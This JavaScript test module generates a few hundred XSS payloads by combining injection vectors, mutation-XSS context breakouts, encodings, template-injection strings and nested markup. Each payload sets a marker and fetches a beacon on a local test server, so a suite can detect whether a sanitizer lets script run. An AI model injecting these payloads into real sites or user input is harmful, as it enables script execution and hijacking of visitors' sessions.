// XSS payloads generated from categories (vector × breakout × encoding, plus template-like strings), so coverage is
// systematic rather than a pasted list. Every payload, if it ever runs, sets `window.__pwned` and `top.__pwned` to its
// number AND fetches `BASE/beacon?id=N`: a test can detect execution both in the page and on the server.
// Plain JavaScript (no TypeScript) so the end-to-end suite can import it without a compiler; types in payloads.d.mts.

/** The server path the beacons hit. */
export const BEACON_PATH = '/beacon';

/** A base that nothing listens on, for unit tests (happy-dom runs no scripts, but the shape is the same). */
export const OFFLINE_BEACON_BASE = 'http://127.0.0.1:9';

/**
 * The beacon as JavaScript, in three quoting styles so it fits inside any attribute or string context:
 * `sq` uses only single quotes, `dq` only double quotes, `nq` no quotes at all (the URL travels as a regex source).
 */
export function beaconJs(id, base = OFFLINE_BEACON_BASE, quote = 'sq') {
  const url = `${base}${BEACON_PATH}?id=${id}`;
  const set = `top.__pwned=window.__pwned=${id}`;
  if (quote === 'dq') return `${set};fetch("${url}")`;
  if (quote === 'nq') {
    // `/…/.source` gives the text back; every "/" is percent-encoded so the regex literal stays one token.
    const encoded = encodeURIComponent(url).replace(/\./g, '%2E');
    return `${set};fetch(decodeURIComponent(/${encoded}/.source))`;
  }
  return `${set};fetch('${url}')`;
}

/** Attack vectors: tag × attribute/event. `js` is the beacon in the quoting style the vector needs. */
const VECTORS = [
  ['script', (b) => `<script>${b('sq')}</script>`],
  ['script-src-data', (b) => `<script src="data:text/javascript,${encodeURIComponent(b('sq'))}"></script>`],
  ['img-onerror', (b) => `<img src=x onerror="${b('sq')}">`],
  ['img-onerror-unquoted', (b) => `<img src=x onerror=${b('nq')}>`],
  ['svg-onload', (b) => `<svg onload="${b('sq')}"></svg>`],
  ['svg-script', (b) => `<svg><script>${b('sq')}</script></svg>`],
  ['svg-animate-onbegin', (b) => `<svg><animate onbegin="${b('sq')}" attributeName="x" dur="1s"></animate></svg>`],
  ['svg-xlink-href', (b) => `<svg><a xlink:href="javascript:${b('sq')}"><text x="9" y="9">x</text></a></svg>`],
  ['math-href', (b) => `<math><maction actiontype="statusline" xlink:href="javascript:${b('sq')}">x</maction></math>`],
  ['iframe-src-js', (b) => `<iframe src="javascript:${b('sq')}"></iframe>`],
  ['iframe-srcdoc', (b) => `<iframe srcdoc="&lt;script&gt;${b('sq')}&lt;/script&gt;"></iframe>`],
  ['object-data', (b) => `<object data="javascript:${b('sq')}"></object>`],
  ['embed-src', (b) => `<embed src="javascript:${b('sq')}">`],
  ['details-ontoggle', (b) => `<details open ontoggle="${b('sq')}"><summary>x</summary></details>`],
  ['style-onload', (b) => `<style onload="${b('sq')}">*{}</style>`],
  ['style-import', (b) => `<style>@import 'javascript:${b('dq')}';</style>`],
  ['template-img', (b) => `<template><img src=x onerror="${b('sq')}"></template>`],
  ['a-href-js', (b) => `<a href="javascript:${b('sq')}">open</a>`],
  ['input-autofocus', (b) => `<input autofocus onfocus="${b('sq')}">`],
  ['textarea-autofocus', (b) => `<textarea autofocus onfocus="${b('sq')}"></textarea>`],
  ['body-onload', (b) => `<body onload="${b('sq')}">`],
  ['video-source-onerror', (b) => `<video><source onerror="${b('sq')}"></video>`],
  ['form-formaction', (b) => `<form><button formaction="javascript:${b('sq')}">go</button></form>`],
  ['meta-refresh', (b) => `<meta http-equiv="refresh" content="0;url=javascript:${b('sq')}">`],
];

/** Mutation-XSS and context breakouts: the vector after something that closes or confuses the current context. */
const BREAKOUTS = [
  ['raw', (v) => v],
  ['close-p', (v) => `</p>${v}`],
  ['close-noscript', (v) => `<noscript><p title="</noscript>${v}">`],
  ['close-style', (v) => `<style></style>${v}</style>`],
  ['close-title', (v) => `<title></title>${v}</title>`],
  ['close-textarea', (v) => `</textarea>${v}`],
  ['attr-breakout', (v) => `"><${v.slice(1)}`],
  ['svg-namespace', (v) => `<svg></p><style><a id="</style>${v}">`],
  ['math-namespace', (v) => `<math><mtext><table><mglyph><style><!--</style>${v}-->`],
  ['comment-breakout', (v) => `--!>${v}`],
];

/** Encodings of the whole payload: a decoder anywhere on the way would turn these back into markup. */
const ENCODINGS = [
  ['raw', (s) => s],
  ['html-entities', (s) => s.replace(/[<>"'&]/g, (c) => `&#${c.charCodeAt(0)};`)],
  ['percent', (s) => encodeURIComponent(s)],
  ['unicode-escapes', (s) => s.replace(/[<>"']/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)],
];

/** Template-like strings: a template engine anywhere on the way would evaluate them. */
const TEMPLATES = [
  ['angular-constructor', (b) => `{{constructor.constructor("${b('sq')}")()}}`],
  ['angular-prototype', (b) => `{{'a'.constructor.prototype.charAt=[].join;$eval("x=1} } };${b('sq')}//")}}`],
  ['js-template-literal', (b) => `\${${b('sq')}}`],
  ['erb', (b) => `<%= ${b('sq')} %>`],
  ['erb-raw', (b) => `<%- ${b('sq')} %>`],
  ['jinja', (b) => `{{ ''.__class__.__mro__ }}{{${b('sq')}}}`],
  ['handlebars-triple', (b) => `{{{${b('sq')}}}}`],
  ['ruby-interpolation', (b) => `#{${b('sq')}}`],
  ['vue-mustache', (b) => `{{_c.constructor("${b('sq')}")()}}`],
  ['thymeleaf', (b) => `[[\${${b('sq')}}]]`],
];

/**
 * Nesting: a vector inside another element's attribute or content, several levels deep.
 */
const NESTINGS = [
  ['svg-in-math', (b) => `<math><svg><img src=x onerror="${b('sq')}"></svg></math>`],
  ['details-in-template-in-svg', (b) => `<svg><foreignObject><details open ontoggle="${b('sq')}"></details></foreignObject></svg>`],
  ['iframe-srcdoc-nested', (b) => `<iframe srcdoc="<iframe srcdoc='&lt;img src=x onerror=${b('nq')}&gt;'></iframe>"></iframe>`],
  ['noscript-in-select', (b) => `<select><noscript></select><img src=x onerror="${b('sq')}"></noscript>`],
  ['table-in-a', (b) => `<a><table><a href="javascript:${b('sq')}">x</a></table></a>`],
  ['object-in-object', (b) => `<object><object data="javascript:${b('sq')}"></object></object>`],
];

/**
 * The payload corpus: `{ id, category, text }` with ids 1…N in a stable order. `base` is where beacons go
 * (the e2e server's origin); it changes only the URL inside each payload, never the set or the order.
 */
export function generatePayloads(base = OFFLINE_BEACON_BASE) {
  const out = [];
  const add = (category, make) => {
    const id = out.length + 1;
    out.push({ id, category, text: make((quote) => beaconJs(id, base, quote)) });
  };
  for (const [vector, makeVector] of VECTORS) {
    for (const [breakout, wrap] of BREAKOUTS) {
      // Every vector in every breakout raw; the encodings on a subset, so the corpus stays a few hundred strings.
      add(`${vector}/${breakout}/raw`, (b) => wrap(makeVector(b)));
    }
    for (const [encoding, encode] of ENCODINGS.slice(1)) {
      add(`${vector}/raw/${encoding}`, (b) => encode(makeVector(b)));
    }
  }
  for (const [name, make] of TEMPLATES) {
    add(`template/${name}`, make);
    add(`template/${name}/in-attribute`, (b) => `<img alt="${make(b).replace(/"/g, "'")}" src=x onerror="${b('sq')}">`);
  }
  for (const [name, make] of NESTINGS) add(`nesting/${name}`, make);
  return out;
}

/** Category names used to build the corpus, for reporting. */
export const PAYLOAD_CATEGORIES = {
  vectors: VECTORS.map(([name]) => name),
  breakouts: BREAKOUTS.map(([name]) => name),
  encodings: ENCODINGS.map(([name]) => name),
  templates: TEMPLATES.map(([name]) => name),
  nestings: NESTINGS.map(([name]) => name),
};
